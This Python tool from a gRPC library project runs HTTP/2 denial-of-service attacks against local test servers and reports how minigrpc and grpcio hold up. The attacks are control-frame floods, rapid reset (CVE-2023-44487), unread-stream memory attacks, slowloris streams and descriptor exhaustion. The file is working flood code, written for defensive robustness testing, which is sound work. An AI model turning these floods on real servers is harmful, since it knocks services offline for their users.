"""Attacks on a gRPC server, measured: minigrpc (CPython and PyPy) beside grpcio, in one run.

Each attack runs against a fresh server process (minigrpc's blocking server and its asyncio
server, on CPython and PyPy, each beside grpcio's blocking or ``grpc.aio`` server) while a
well-behaved grpcio client, in a process of its own, makes unary calls one after another (a 2 s
deadline each) on its own connection, before, during and after the attack. For every server and
attack the report gives:

* **legit OK**: the legitimate calls that succeeded while the attack ran, of those made;
* **p99 during**: the 99th percentile of their latency (a failed call counts as its deadline);
* **recovery**: from the end of the attack to the end of the first call started after it that
  succeeded;
* **new connection after**: how long a new connection takes, right after the attack, to get
  the server's SETTINGS (a server that stopped accepting shows here);
* **peak RSS**: the server's peak resident memory (``VmHWM``), attack included;
* **server CPU**: the server process's CPU time during the attack over its length (a share of
  one core);
* **attacker**: the connections the attack used (an attacker sent away with GOAWAY reconnects
  and goes on, as a real one would) and the GOAWAY codes it was sent.

The attacks are those a server must survive (RFC 9113 §10.5, "Denial-of-Service
Considerations"): control-frame floods, the rapid reset of CVE-2023-44487, and the memory
attacks that make a server buffer what a client sends or will not read. Not part of
``make test`` (a few minutes); ``make robustness-attacks`` runs it and rewrites the attack
section of docs/robustness.md (tools/robustness_report.py keeps that section when it rewrites
the rest)::

    python tools/attack_report.py                                   # everything, as make does
    python tools/attack_report.py --servers minigrpc --attacks rapid_reset --seconds 5 --no-write

The attackers run in this process (raw HTTP/2 from tests/support/scripted_peer.py); the server
and the legitimate client each run in their own.
"""

from __future__ import annotations

import argparse
import collections
import json
import os
import platform
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import IO, Callable, Counter, Dict, List, NamedTuple, Optional, Sequence, Tuple

REPO_ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO_ROOT))

from hyperframe.frame import (  # noqa: E402
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

sys.path.insert(0, str(REPO_ROOT / "tools"))

from robustness_report import ATTACK_BEGIN, ATTACK_END, with_attack_section  # noqa: E402

from bench.pypy import pypy_env, pypy_python_or_reason, pypy_version  # noqa: E402
from minigrpc.http2.frames import HTTP2_ERROR_NAMES  # noqa: E402
from tests.support.scripted_peer import HostileClient  # noqa: E402

DOC_PATH = REPO_ROOT / "docs" / "robustness.md"

SERVICE = "attack.Target"
ECHO = f"/{SERVICE}/Echo"
SINK = f"/{SERVICE}/Sink"
POUR = f"/{SERVICE}/Pour"
CHAT = f"/{SERVICE}/Chat"
TINY = f"/{SERVICE}/Tiny"

#: The legitimate client's deadline per call, and its pause between calls (seconds).
CALL_TIMEOUT = 2.0
CALL_INTERVAL = 0.02
#: How long the legitimate client goes on after an attack.
AFTER_SECONDS = 4.0
#: Frames per attacker write.
BURST = 1000
MIB = 1024 * 1024
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
MAX_WINDOW = 2**31 - 1

#: The server under attack: an echo for the legitimate client; a client-streaming method whose
#: handler never reads its requests; a server-streaming method that pours 1 MiB responses until
#: its call ends; a bidi echo; a server-streaming method that yields empty messages until its
#: call ends. Identity serializers, so the same script serves minigrpc and grpcio (through the
#: import line), on CPython and PyPy. Enough workers that no attack is a thread-pool attack.
_SERVER_SCRIPT = r"""
import concurrent.futures, sys, threading
import minigrpc as grpc

BLOCK = b"\0" * (1024 * 1024)

def echo(request, context):
    return request

def sink(requests, context):
    done = threading.Event()
    context.add_callback(done.set)
    done.wait(300)
    return b""

def pour(request, context):
    while context.is_active():
        yield BLOCK

def chat(requests, context):
    for request in requests:
        yield request

def tiny(request, context):
    while True:
        yield b""

handler = grpc.method_handlers_generic_handler("SERVICE", {
    "Echo": grpc.unary_unary_rpc_method_handler(echo),
    "Sink": grpc.stream_unary_rpc_method_handler(sink),
    "Pour": grpc.unary_stream_rpc_method_handler(pour),
    "Chat": grpc.stream_stream_rpc_method_handler(chat),
    "Tiny": grpc.unary_stream_rpc_method_handler(tiny),
})
server = grpc.server(concurrent.futures.ThreadPoolExecutor(512), handlers=[handler])
port = server.add_insecure_port("127.0.0.1:0")
server.start()
print("READY 127.0.0.1:%d" % port, flush=True)
sys.stdin.read()
server.stop(0).wait(10)
""".replace("SERVICE", SERVICE)

#: The same server on the library's asyncio API (``grpc.aio``): ``async def`` handlers and
#: async generators on the event loop.
_AIO_SERVER_SCRIPT = r"""
import asyncio, sys
import minigrpc as grpc
import minigrpc.aio

BLOCK = b"\0" * (1024 * 1024)

async def echo(request, context):
    return request

async def sink(requests, context):
    await asyncio.Event().wait()  # until the call ends (its task is cancelled)
    return b""

async def pour(request, context):
    while True:
        yield BLOCK

async def chat(requests, context):
    async for request in requests:
        yield request

async def tiny(request, context):
    while True:
        yield b""

handler = grpc.method_handlers_generic_handler("SERVICE", {
    "Echo": grpc.unary_unary_rpc_method_handler(echo),
    "Sink": grpc.stream_unary_rpc_method_handler(sink),
    "Pour": grpc.unary_stream_rpc_method_handler(pour),
    "Chat": grpc.stream_stream_rpc_method_handler(chat),
    "Tiny": grpc.unary_stream_rpc_method_handler(tiny),
})

async def main():
    server = grpc.aio.server(handlers=[handler])
    port = server.add_insecure_port("127.0.0.1:0")
    await server.start()
    print("READY 127.0.0.1:%d" % port, flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    await server.stop(0)

asyncio.run(main())
""".replace("SERVICE", SERVICE)

#: The legitimate client: one grpcio channel, unary calls one after another until stdin closes;
#: one JSON line per call: [start, end, ok] on the system-wide monotonic clock.
_LEGIT_SCRIPT = r"""
import json, sys, threading, time
import grpc

target, path, timeout, pause = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
with grpc.insecure_channel(target) as channel:
    call = channel.unary_unary(path)
    call(b"warm-up", timeout=30)
    print("READY", flush=True)
    while not stop.is_set():
        start = time.monotonic()
        try:
            ok = call(b"legitimate", timeout=timeout) == b"legitimate"
        except grpc.RpcError:
            ok = False
        print(json.dumps([start, time.monotonic(), ok]), flush=True)
        stop.wait(pause)
"""


class ServerKind(NamedTuple):
    name: str
    python: str
    module: str  # what ``import ... as grpc`` imports
    env: Dict[str, str]
    version: str
    aio: bool = False  # the library's asyncio server


class Result(NamedTuple):
    server: str
    attack: str
    calls: int
    ok: int
    p99_ms: Optional[float]
    recovery_ms: Optional[float]
    peak_rss_mib: float
    connections: int
    goaways: Dict[int, int]
    cpu: float = 0.0  # the server's CPU during the attack, a share of one core
    new_connection_ms: Optional[float] = None
    note: str = ""


# ------------------------------------------------------------------------------------------------
# Processes


class ServerProcess:
    """The server under attack, in its own process; its peak RSS from /proc."""

    def __init__(self, kind: ServerKind, nofile: Optional[int] = None) -> None:
        script = (_AIO_SERVER_SCRIPT if kind.aio else _SERVER_SCRIPT).replace(
            "minigrpc", kind.module)

        def limit() -> None:  # ``ulimit -n`` for the attack that exhausts descriptors
            if nofile is not None:
                resource.setrlimit(resource.RLIMIT_NOFILE,
                                   (nofile, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))

        # stderr to a file: a server that logs a flood must not block on a full pipe.
        self.stderr = tempfile.TemporaryFile(mode="w+")
        self.process = subprocess.Popen(
            [kind.python, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=self.stderr, text=True, cwd=str(REPO_ROOT), env=kind.env, preexec_fn=limit)
        assert self.process.stdout is not None
        line = self.process.stdout.readline().strip()
        if not line.startswith("READY "):
            self.process.kill()
            self.process.communicate()
            raise RuntimeError(f"{kind.name} server did not start: {line!r} "
                               f"{self._stderr()[-1000:]}")
        self.target = line[len("READY "):]

    def _stderr(self) -> str:
        self.stderr.seek(0)
        return self.stderr.read()

    def cpu_seconds(self) -> float:
        """User and system CPU time so far (/proc/<pid>/stat, fields 14 and 15)."""
        with open(f"/proc/{self.process.pid}/stat", encoding="ascii") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def peak_rss_mib(self) -> float:
        with open(f"/proc/{self.process.pid}/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
        return float("nan")

    def stop(self) -> str:
        try:
            self.process.communicate(input="", timeout=30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.communicate()
        err = self._stderr()
        self.stderr.close()
        return err


class LegitimateClient:
    """grpcio's client in its own process, calling throughout; its calls read back at the end."""

    def __init__(self, target: str) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-c", _LEGIT_SCRIPT, target, ECHO, str(CALL_TIMEOUT),
             str(CALL_INTERVAL)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert self.process.stdout is not None
        line = self.process.stdout.readline().strip()
        if line != "READY":
            self.process.kill()
            _, err = self.process.communicate()
            raise RuntimeError(f"the legitimate client did not start: {line!r} {err[-1000:]}")

    def stop(self) -> List[Tuple[float, float, bool]]:
        out, _ = self.process.communicate(input="", timeout=CALL_TIMEOUT + 30)
        return [tuple(json.loads(line)) for line in out.splitlines() if line.startswith("[")]


# ------------------------------------------------------------------------------------------------
# Attacks: each runs until ``stop`` is set, from threads of this process.


class Attack:
    """The attacker's connections: opened, counted, and all shut when the attack stops."""

    def __init__(self, target: str, stop: threading.Event) -> None:
        self.target = target
        self.stop = stop
        self.lock = threading.Lock()
        self.clients: List[HostileClient] = []
        self.connections = 0
        self.goaways: Counter[int] = collections.Counter()
        #: How long the server took to ACK each PING (the attacks that measure it).
        self.ping_delays: List[float] = []

    def connect(self, **options: object) -> Optional[HostileClient]:
        options.setdefault("auto_ack_ping", False)
        try:
            client = HostileClient(self.target, record_frames=False, **options)
        except OSError:
            self.stop.wait(0.05)
            return None
        with self.lock:
            self.clients.append(client)
            self.connections += 1
        return client

    def finish(self, client: HostileClient) -> None:
        with self.lock:
            for goaway in client.goaways:
                self.goaways[goaway.error_code] += 1
        client.shutdown()

    def shut_all(self) -> None:
        with self.lock:
            clients = list(self.clients)
        for client in clients:
            client.shutdown()  # unblocks a send() the server no longer reads
        for client in clients:
            client.close()


def _request_headers(path: str) -> List[Tuple[bytes, bytes]]:
    return [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
            (b":authority", b"attack"), (b"content-type", b"application/grpc"),
            (b"te", b"trailers")]


def _flood(attack: Attack, frames: Callable[[HostileClient, int], bytes], read: bool = True,
           preface: Optional[Dict[int, int]] = None) -> None:
    """One attacker: send ``frames(client, burst)`` until told to stop; when the server sends
    it away, connect again and go on."""
    while not attack.stop.is_set():
        client = attack.connect(read=read)
        if client is None:
            continue
        client.send_preface(preface)
        burst = 0
        while not attack.stop.is_set() and not client.eof and not client.goaways:
            if not client.send(frames(client, burst)):
                break
            burst += 1
        attack.finish(client)


def ping_flood(attack: Attack) -> List[threading.Thread]:
    frames = PingFrame(0, opaque_data=b"flooding").serialize() * BURST
    return [threading.Thread(target=_flood, args=(attack, lambda c, b: frames))
            for _ in range(16)]


def settings_flood(attack: Attack) -> List[threading.Thread]:
    frames = SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 65535}).serialize() * BURST
    return [threading.Thread(target=_flood, args=(attack, lambda c, b: frames, False))]


def rapid_reset(attack: Attack) -> List[threading.Thread]:
    def frames(client: HostileClient, burst: int) -> bytes:
        block = client.encode_headers(_request_headers(ECHO))
        first = 1 + 2 * BURST * burst
        return b"".join(
            HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize()
            + RstStreamFrame(sid, error_code=CANCEL).serialize()
            for sid in range(first, min(first + 2 * BURST, MAX_WINDOW), 2)
        )

    return [threading.Thread(target=_flood, args=(attack, frames))]


def _small_messages(attack: Attack, streams: int) -> None:
    """Client-streaming calls to a handler that never reads, fed 2-byte messages."""
    message = b"\x00\x00\x00\x00\x02hi"
    payload = message * 2000
    while not attack.stop.is_set():
        client = attack.connect()
        if client is None:
            continue
        client.send_preface()
        ids = [2 * i + 1 for i in range(streams)]
        for sid in ids:
            client.send_headers(sid, _request_headers(SINK))
        while not attack.stop.is_set() and not client.eof and not client.goaways:
            progress = False
            for sid in ids:
                if client.send_data(sid, payload, timeout=0.2):
                    progress = True
            if not progress and attack.stop.wait(0.2):
                break
        attack.finish(client)


def small_messages_10_streams(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_small_messages, args=(attack, 10))]


def _partial_unary(attack: Attack, calls: int) -> None:
    """Unary calls each carrying a message of almost 4 MiB, all but its last byte."""
    size = 4 * MIB - 16
    message = b"\x00" + size.to_bytes(4, "big") + b"\x01" * (size - 1)
    client = attack.connect()
    if client is None:
        return
    client.send_preface()
    for index in range(calls):
        if attack.stop.is_set() or client.eof or client.goaways:
            break
        sid = 2 * index + 1
        client.send_headers(sid, _request_headers(ECHO))
        client.send_data(sid, message, timeout=0.5)
    attack.stop.wait()
    attack.finish(client)


def partial_4mib_unary(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_partial_unary, args=(attack, 100)) for _ in range(2)]


def _unread_responses(attack: Attack, streams: int) -> None:
    """Server-streaming calls whose responses are never read, with every window wide open."""
    client = attack.connect(read=False)
    if client is None:
        return
    client.send_preface({INITIAL_WINDOW_SIZE: MAX_WINDOW})
    client.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize())
    empty = b"\x00\x00\x00\x00\x00"
    for index in range(streams):
        client.send_headers(2 * index + 1, _request_headers(POUR))
        client.send_data(2 * index + 1, empty, end_stream=True, flow_control=False)
    attack.stop.wait()
    attack.finish(client)


def unread_responses_400_streams(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_unread_responses, args=(attack, 100)) for _ in range(4)]


def _unread_bidi(attack: Attack, streams: int) -> None:
    """Bidi echo calls fed 64 KiB messages by a client that never reads the echoes."""
    client = attack.connect(read=False)
    if client is None:
        return
    client.send_preface({INITIAL_WINDOW_SIZE: MAX_WINDOW})
    client.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize())
    size = 64 * 1024
    message = b"\x00" + size.to_bytes(4, "big") + b"\x02" * size
    ids = [2 * index + 1 for index in range(streams)]
    for sid in ids:
        client.send_headers(sid, _request_headers(CHAT))
    client.read_for(0.5)  # the server's SETTINGS and windows; then nothing is read any more
    while not attack.stop.is_set() and not client.eof:
        sent = [client.send_data(sid, message, timeout=0.1) for sid in ids]
        if not any(sent) and attack.stop.wait(0.2):
            break
    attack.stop.wait()
    attack.finish(client)


def unread_bidi_100_streams(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_unread_bidi, args=(attack, 100))]


def window_update_flood(attack: Attack) -> List[threading.Thread]:
    frames = WindowUpdateFrame(0, window_increment=1).serialize() * BURST
    return [threading.Thread(target=_flood, args=(attack, lambda c, b: frames))
            for _ in range(4)]


def ping_flood_100(attack: Attack) -> List[threading.Thread]:
    frames = PingFrame(0, opaque_data=b"flooding").serialize() * BURST
    return [threading.Thread(target=_flood, args=(attack, lambda c, b: frames))
            for _ in range(100)]


def _tiny_responses(attack: Attack, streams: int) -> None:
    """Server-streaming calls of empty messages to a client that reads everything but never
    returns window (it ACKs SETTINGS and PING, nothing else); a PING with the calls and every
    quarter second, its ACK delay recorded."""
    client = attack.connect(auto_window_update=False, auto_ack_ping=True)
    if client is None:
        return
    client.send_preface()
    calls = []
    for index in range(streams):
        calls.append(client.header_frames(2 * index + 1, _request_headers(TINY)))
        calls.append(DataFrame(2 * index + 1, b"\x00" * 5, flags=["END_STREAM"]).serialize())
    index = 0
    while not attack.stop.is_set() and not client.eof:
        opaque = index.to_bytes(8, "big")
        sent = time.monotonic()
        client.send((b"".join(calls) if index == 0 else b"")
                    + PingFrame(0, opaque_data=opaque).serialize())
        acked = client.wait_for(lambda o=opaque: o in client.ping_acks or attack.stop.is_set(),
                                timeout=60)
        if opaque in client.ping_acks:
            attack.ping_delays.append(time.monotonic() - sent)
        elif acked:  # the attack ended first
            attack.ping_delays.append(time.monotonic() - sent)
            break
        index += 1
        attack.stop.wait(0.25)
    attack.finish(client)


def tiny_responses_6(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_tiny_responses, args=(attack, 6))]


def tiny_responses_100(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_tiny_responses, args=(attack, 100))]


def _pending_unary(attack: Attack, streams: int) -> None:
    """Unary calls whose request never completes: HEADERS, then 1 byte of a 10-byte message."""
    client = attack.connect()
    if client is None:
        return
    client.send_preface()
    frames = []
    for index in range(streams):
        frames.append(client.header_frames(2 * index + 1, _request_headers(ECHO)))
        frames.append(DataFrame(2 * index + 1, b"\x00\x00\x00\x00\x0ax").serialize())
    client.send(b"".join(frames))
    attack.stop.wait()
    attack.finish(client)


def slowloris_streams(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_pending_unary, args=(attack, 100)) for _ in range(100)]


#: ``ulimit -n`` of the server under the descriptor-exhaustion attack, and what it holds.
FD_LIMIT = 1024
FD_CONNECTIONS = 1100


def _hold_connections(attack: Attack, count: int) -> None:
    """Open ``count`` TCP connections and hold them, silent, until the attack ends."""
    host, port = attack.target.rsplit(":", 1)
    held: List[socket.socket] = []
    try:
        for _ in range(count):
            if attack.stop.is_set():
                break
            try:
                held.append(socket.create_connection((host, int(port)), timeout=5))
            except OSError:
                break
        with attack.lock:
            attack.connections += len(held)
        attack.stop.wait()
    finally:
        for sock in held:
            sock.close()


def fd_exhaustion(attack: Attack) -> List[threading.Thread]:
    return [threading.Thread(target=_hold_connections, args=(attack, FD_CONNECTIONS))]


#: Every attack: what it does, and its threads.
ATTACKS: Dict[str, Tuple[str, Callable[[Attack], List[threading.Thread]]]] = {
    "none": ("no attack: the legitimate client alone", lambda attack: []),
    "ping_flood": ("16 connections send PING frames as fast as they can", ping_flood),
    "settings_flood": ("1 connection sends SETTINGS frames and never reads the ACKs",
                       settings_flood),
    "rapid_reset": ("1 connection opens streams and resets each at once (CVE-2023-44487)",
                    rapid_reset),
    "small_messages": ("10 client-streaming calls send 2-byte messages to a handler that never"
                       " reads", small_messages_10_streams),
    "partial_4mib_unary": ("2 connections x 100 unary calls, each a 4 MiB message but its last"
                           " byte", partial_4mib_unary),
    "unread_responses": ("4 connections x 100 server-streaming calls of 1 MiB responses, never"
                         " read, windows wide open", unread_responses_400_streams),
    "unread_bidi": ("100 bidi echo calls fed 64 KiB messages as the server's windows allow,"
                    " echoes never read, windows wide open", unread_bidi_100_streams),
    "window_update_flood": ("4 connections send WINDOW_UPDATE frames (stream 0) as fast as"
                            " they can", window_update_flood),
    "ping_flood_100": ("100 connections send PING frames as fast as they can", ping_flood_100),
    "tiny_responses_6": ("6 server-streaming calls of empty messages on 1 connection that reads"
                         " but never returns window (ACKs only SETTINGS and PING); a PING sent"
                         " with the calls, then one every 0.25 s: their ACK delays in the"
                         " attack's note", tiny_responses_6),
    "tiny_responses_100": ("the same with 100 calls", tiny_responses_100),
    "slowloris_streams": ("100 connections x 100 unary calls whose request never completes (1"
                          " byte of a 10-byte message)", slowloris_streams),
    "fd_exhaustion": (f"the server under `ulimit -n {FD_LIMIT}`; {FD_CONNECTIONS} connections"
                      " opened and held silent (the CPU column is the server's while it cannot"
                      " accept; target under 50%)", fd_exhaustion),
}
#: Attacks that need the server started with a descriptor limit.
NOFILE = {"fd_exhaustion": FD_LIMIT}


# ------------------------------------------------------------------------------------------------
# One measurement


def _percentile(values: Sequence[float], fraction: float) -> Optional[float]:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


def _new_connection_ms(target: str) -> Optional[float]:
    """How long a new connection takes to get the server's SETTINGS (None: not in 5 s)."""
    start = time.monotonic()
    try:
        client = HostileClient(target, record_frames=False)
    except OSError:
        return None
    try:
        client.send_preface()
        if not client.wait_for(lambda: bool(client.settings_received) or client.eof, 5.0):
            return None
        return None if not client.settings_received else 1000 * (time.monotonic() - start)
    finally:
        client.close()


def measure(kind: ServerKind, attack_name: str, seconds: float) -> Result:
    server = ServerProcess(kind, NOFILE.get(attack_name))
    note = ""
    try:
        legit = LegitimateClient(server.target)
        stop = threading.Event()
        attack = Attack(server.target, stop)
        threads = ATTACKS[attack_name][1](attack)
        for thread in threads:
            thread.daemon = True
        started = time.monotonic()
        cpu_start = server.cpu_seconds()
        for thread in threads:
            thread.start()
        stop.wait(seconds)
        cpu = (server.cpu_seconds() - cpu_start) / (time.monotonic() - started)
        stop.set()
        attack.shut_all()
        ended = time.monotonic()
        for thread in threads:
            thread.join(30)
        if any(thread.is_alive() for thread in threads):
            note = "an attacker thread did not stop"
        new_connection = _new_connection_ms(server.target)
        time.sleep(max(0.0, AFTER_SECONDS - (time.monotonic() - ended)))  # legit calls go on
        calls = legit.stop()
        peak = server.peak_rss_mib()
    finally:
        stderr = server.stop()
    if attack.ping_delays:
        first, later = attack.ping_delays[0], attack.ping_delays[1:] or [0.0]
        note = (note + "; " if note else "") + (
            f"PING ACK: the one sent with the calls {1000 * first:,.0f} ms, later ones within"
            f" {1000 * max(later):,.0f} ms")
    if "Traceback" in stderr:
        note = (note + "; " if note else "") + "the server logged a traceback"
    during = [(end - start, ok) for start, end, ok in calls if started <= start < ended]
    latencies = [duration if ok else CALL_TIMEOUT for duration, ok in during]
    after = [end for start, end, ok in calls if start >= ended and ok]
    return Result(
        server=kind.name, attack=attack_name, calls=len(during),
        ok=sum(1 for _, ok in during if ok),
        p99_ms=None if not latencies else 1000 * (_percentile(latencies, 0.99) or 0.0),
        recovery_ms=None if not after else 1000 * (min(after) - ended),
        peak_rss_mib=peak, connections=attack.connections, goaways=dict(attack.goaways),
        cpu=cpu, new_connection_ms=new_connection, note=note,
    )


# ------------------------------------------------------------------------------------------------
# Servers and the document


def server_kinds(names: Sequence[str]) -> Tuple[List[ServerKind], List[str]]:
    kinds: List[ServerKind] = []
    missing: List[str] = []
    cpython = f"CPython {platform.python_version()}"
    env = dict(os.environ, PYTHONPATH=str(REPO_ROOT))
    for name in names:
        aio = name.endswith("-aio") or "-aio-" in name
        if name in ("minigrpc", "minigrpc-aio"):
            kinds.append(ServerKind(name, sys.executable, "minigrpc", env, cpython, aio))
        elif name in ("minigrpc-pypy", "minigrpc-aio-pypy"):
            python, reason = pypy_python_or_reason()
            if python is None:
                missing.append(f"{name}: {reason}")
                continue
            kinds.append(ServerKind(name, python, "minigrpc", pypy_env(str(REPO_ROOT)),
                                    pypy_version(python), aio))
        elif name in ("grpcio", "grpcio-aio"):
            try:
                import grpc
            except ImportError:
                missing.append(f"{name}: grpcio not installed")
                continue
            kinds.append(ServerKind(name, sys.executable, "grpc", env,
                                    f"grpcio {grpc.__version__}, {cpython}", aio))
        else:
            raise SystemExit(f"unknown server {name!r}")
    return kinds, missing


#: What a server should hold to under every attack: legitimate calls all succeed with a p99
#: under 100 ms, the server answers within a second after the attack, and its peak RSS stays
#: within 150 MiB (300 MiB on PyPy). A figure past its target is shown in bold.
P99_TARGET_MS = 100.0
RECOVERY_TARGET_MS = 1000.0
RSS_TARGET_MIB = {"minigrpc-pypy": 300.0, "minigrpc-aio-pypy": 300.0}
RSS_TARGET_DEFAULT_MIB = 150.0
#: The server's CPU while it cannot accept (fd_exhaustion): resting, not spinning.
CPU_TARGET = 0.5
#: Servers in the order of the table: each minigrpc server beside its grpcio counterpart.
SERVERS = "minigrpc,minigrpc-pypy,grpcio,minigrpc-aio,minigrpc-aio-pypy,grpcio-aio"


def _ms(value: Optional[float]) -> str:
    if value is None:
        return "none"
    return f"{value:,.0f} ms"


def _over(text: str, over: bool) -> str:
    return f"**{text}**" if over else text


def render(results: List[Result], kinds: List[ServerKind], missing: List[str], seconds: float,
           command: str) -> str:
    lines = [
        ATTACK_BEGIN,
        "## Under attack: legitimate calls, recovery and memory, beside grpcio",
        "",
        f"Measured in one run of `{command}` (each attack {seconds:.0f} s against a fresh server",
        f"process; then {AFTER_SECONDS:.0f} s more of legitimate calls). A grpcio client in its "
        "own process makes",
        f"unary calls one after another with a {CALL_TIMEOUT:.0f} s deadline throughout; the "
        "attackers, in another,",
        "reconnect whenever the server sends them away. Servers: "
        + "; ".join(f"{kind.name} ({kind.version})" for kind in kinds) + ".",
        "Machine: " + f"{os.cpu_count()} CPUs, shared; figures are from one run, not averages.",
        "",
        f"In bold, what misses its target: every legitimate call succeeds, p99 under "
        f"{P99_TARGET_MS:.0f} ms, the first",
        f"call after the attack answered within {RECOVERY_TARGET_MS / 1000:.0f} s, and a new "
        "connection too (its SETTINGS within 1 s), peak RSS",
        f"within {RSS_TARGET_DEFAULT_MIB:.0f} MiB ({RSS_TARGET_MIB['minigrpc-pypy']:.0f} MiB on "
        f"PyPy), the server under {CPU_TARGET:.0%} CPU while it cannot accept (fd_exhaustion; "
        "the CPU",
        "column is a share of one core, attack only). An attacker that never reads "
        "(settings_flood, unread_responses) cannot",
        "see a GOAWAY; its reconnections show the server closing it.",
        "",
        "| Attack | Server | legit OK during | p99 during | recovery after | new connection after "
        "| peak RSS | server CPU | attacker connections (GOAWAYs) |",
        "|---|---|---|---|---|---|---|---|---|",
    ]
    for name in missing:
        lines.insert(-3, f"Not measured: {name}.")
    for result in results:
        goaways = ", ".join(f"{count} {HTTP2_ERROR_NAMES.get(code, code)}"
                            for code, count in sorted(result.goaways.items()))
        attack = result.attack + (f" ({result.note})" if result.note else "")
        rss_target = RSS_TARGET_MIB.get(result.server, RSS_TARGET_DEFAULT_MIB)
        ok = _over(f"{result.ok}/{result.calls}", result.ok < result.calls or not result.calls)
        p99 = _over(_ms(result.p99_ms), result.p99_ms is None or result.p99_ms > P99_TARGET_MS)
        recovery = _over(_ms(result.recovery_ms), result.recovery_ms is None
                         or result.recovery_ms > RECOVERY_TARGET_MS)
        fresh = _over(_ms(result.new_connection_ms), result.new_connection_ms is None
                      or result.new_connection_ms > RECOVERY_TARGET_MS)
        rss = _over(f"{result.peak_rss_mib:,.0f} MiB", result.peak_rss_mib > rss_target)
        cpu = _over(f"{result.cpu:.0%}", result.attack in NOFILE and result.cpu >= CPU_TARGET)
        lines.append(
            f"| {attack} | {result.server} | {ok} | {p99} | {recovery} | {fresh} | {rss} | {cpu} "
            f"| {result.connections}{f' ({goaways})' if goaways else ''} |"
        )
    lines += ["", "What each attack does:", ""]
    for name in dict.fromkeys(result.attack for result in results):
        lines.append(f"- **{name}**: {ATTACKS[name][0]}.")
    lines += ["", ATTACK_END]
    return "\n".join(lines) + "\n"


def write_section(section: str, path: Path = DOC_PATH) -> None:
    """Put the section in place of the old one, or before the document's first section."""
    path.write_text(with_attack_section(path.read_text(encoding="utf-8"), section),
                    encoding="utf-8")


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--servers", default=SERVERS)
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--seconds", type=float, default=10.0, help="length of each attack")
    parser.add_argument("--no-write", action="store_true", help="print, do not rewrite the doc")
    args = parser.parse_args(argv)
    attacks = [name for name in args.attacks.split(",") if name]
    unknown = [name for name in attacks if name not in ATTACKS]
    if unknown:
        parser.error(f"unknown attack {', '.join(unknown)}; known: {', '.join(ATTACKS)}")
    kinds, missing = server_kinds([name for name in args.servers.split(",") if name])
    # The descriptor-exhaustion attacker holds more connections than the server may.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = 4 * FD_CONNECTIONS if hard == resource.RLIM_INFINITY else min(hard, 4 * FD_CONNECTIONS)
    if soft != resource.RLIM_INFINITY and soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
    for reason in missing:
        print(f"attack-report: not measured: {reason}", file=sys.stderr)
    results: List[Result] = []
    log: IO[str] = sys.stderr
    for attack in attacks:
        for kind in kinds:
            result = measure(kind, attack, args.seconds)
            results.append(result)
            print(f"attack-report: {attack:>20} {kind.name:>17}: {result.ok}/{result.calls} ok,"
                  f" p99 {_ms(result.p99_ms)}, recovery {_ms(result.recovery_ms)},"
                  f" new connection {_ms(result.new_connection_ms)},"
                  f" peak {result.peak_rss_mib:.0f} MiB, CPU {result.cpu:.0%},"
                  f" {result.connections} connections {result.goaways} {result.note}",
                  file=log, flush=True)
    command = "make robustness-attacks" if argv is None and len(sys.argv) == 1 else (
        "python tools/attack_report.py " + " ".join(argv if argv is not None else sys.argv[1:]))
    section = render(results, kinds, missing, args.seconds, command)
    if args.no_write:
        print(section)
    else:
        write_section(section)
        print(f"attack-report: wrote {DOC_PATH.relative_to(REPO_ROOT)}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    socket.setdefaulttimeout(None)
    sys.exit(main())
